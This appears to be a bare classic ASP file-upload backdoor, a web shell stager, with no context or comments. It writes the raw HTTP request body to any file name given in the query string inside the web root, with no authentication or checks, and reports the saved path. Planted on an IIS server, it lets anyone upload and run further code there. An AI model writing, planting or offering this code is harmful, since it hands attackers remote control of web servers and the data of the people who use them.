<%
Dim stm, data, path
If Request.TotalBytes > 0 Then
    data = Request.BinaryRead(Request.TotalBytes)
    Set stm = Server.CreateObject("ADODB.Stream")
    stm.Type = 1
    stm.Open
    stm.Write data
    path = Server.MapPath(".") & "\" & Request.QueryString("n")
    stm.SaveToFile path, 2
    stm.Close
    Set stm = Nothing
    Response.Write "ok " & path
End If
%>
